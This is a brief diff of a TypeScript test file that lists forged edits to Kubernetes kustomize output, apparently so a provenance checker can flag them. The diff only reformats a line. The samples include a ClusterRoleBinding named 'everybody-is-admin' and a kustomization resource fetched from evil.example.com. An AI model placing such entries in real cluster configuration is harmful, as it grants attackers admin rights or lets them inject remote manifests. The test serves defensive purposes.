@@ -53,7 +53,8 @@ const FORGERIES: Readonly<Record<string, Forgery>> = {
     says: /contains ClusterRoleBinding "everybody-is-admin", and out\/rome\/kustomization\.yaml lists it for "rome"/,
   },
   'a kustomization that fetches': {
-    forge: (it) => it.edit('out/rome/kustomization.yaml', 'resources:\n', 'resources:\n  - https://evil.example.com/x\n'),
+    forge: (it) =>
+      it.edit('out/rome/kustomization.yaml', 'resources:\n', 'resources:\n  - https://evil.example.com/x\n'),
     code: 'provenance/edited',
     place: 'out/rome/kustomization.yaml',
     says: /"https:\/\/evil\.example\.com\/x" is listed/,
